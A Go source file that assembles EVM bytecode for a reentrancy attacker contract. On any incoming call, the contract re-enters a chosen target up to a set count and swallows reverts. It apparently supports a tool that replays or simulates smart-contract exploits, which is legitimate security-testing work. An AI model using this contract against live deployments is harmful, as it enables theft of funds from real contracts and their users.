package replay

import (
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"
)

// The attacker contract's storage.
const (
	slotTarget = 0 // the target of the owner's last call
	slotCount  = 1 // re-entries made so far
)

// Attacker returns the runtime code of a contract an attacker EOA (owner) drives:
// a call from owner with calldata abi.encode(address target, uint256 value, bytes data)
// (no selector) makes it call target with that value and data and bubble a revert;
// any other call into it (e.g. the victim sending it ether) makes it call the
// target of the owner's last call again (kept in its storage) with the value 0
// and the calldata `reenter`, at most `times` times in all (a counter in its
// storage), then return successfully. It accepts ether.
//
// The owner's call returns what the target returned. A re-entrant call that
// reverts does not make the callback revert: the attacker swallows it, as a
// real exploit contract would, so the outer transfer still succeeds.
func Attacker(owner common.Address, reenter []byte, times int) []byte {
	if times < 0 {
		times = 0
	}
	a := newAsm()

	// Owner's drive call: caller == owner && calldatasize >= 96.
	a.pushBytes(owner.Bytes()).op(vm.CALLER, vm.EQ, vm.ISZERO).pushLabel("callback").op(vm.JUMPI)
	a.push(96).op(vm.CALLDATASIZE, vm.LT).pushLabel("callback").op(vm.JUMPI)

	// sstore(slotTarget, target)
	a.push(0).op(vm.CALLDATALOAD).push(slotTarget).op(vm.SSTORE)
	// data: offset = calldataload(64); len = calldataload(offset); copy to memory 0.
	// calldatacopy(destOffset=0, offset=offset+32, size=len)
	a.push(64).op(vm.CALLDATALOAD)     // [off]
	a.op(vm.DUP1, vm.CALLDATALOAD)     // [off len]
	a.op(vm.SWAP1).push(32).op(vm.ADD) // [len off+32]
	a.op(vm.DUP2)                      // [len off+32 len]
	a.op(vm.SWAP1)                     // [len len off+32]
	a.push(0).op(vm.CALLDATACOPY)      // [len]   calldatacopy(0, off+32, len)
	// call(gas, target, value, 0, len, 0, 0)
	a.push(0).push(0)              // [len 0 0]   retSize retOffset (stack top last)
	a.op(vm.DUP3).push(0)          // [len 0 0 len 0]  argsSize argsOffset
	a.push(32).op(vm.CALLDATALOAD) // value
	a.push(0).op(vm.CALLDATALOAD)  // target
	a.op(vm.GAS, vm.CALL)          // [len success]
	a.op(vm.RETURNDATASIZE).push(0).push(0).op(vm.RETURNDATACOPY)
	a.pushLabel("ok").op(vm.JUMPI)
	a.op(vm.RETURNDATASIZE).push(0).op(vm.REVERT)
	a.label("ok")
	a.op(vm.RETURNDATASIZE).push(0).op(vm.RETURN)

	// Any other call: re-enter the last target while the budget lasts.
	a.label("callback")
	a.push(slotCount).op(vm.SLOAD)                         // [n]
	a.op(vm.DUP1).push(uint64(times)).op(vm.GT, vm.ISZERO) // [n !(times > n)]
	a.pushLabel("done").op(vm.JUMPI)                       // [n]
	a.push(1).op(vm.ADD).push(slotCount).op(vm.SSTORE)     // []
	a.push(uint64(len(reenter))).pushLabel("reenter").push(0).op(vm.CODECOPY)
	// call(gas, target, 0, 0, len(reenter), 0, 0)
	a.push(0).push(0).push(uint64(len(reenter))).push(0).push(0)
	a.push(slotTarget).op(vm.SLOAD)
	a.op(vm.GAS, vm.CALL, vm.POP, vm.STOP)
	a.label("done")
	a.op(vm.STOP)
	// The re-entry calldata, after the code, never executed.
	a.op(vm.INVALID)
	a.dataAt("reenter", reenter)
	return a.bytes()
}
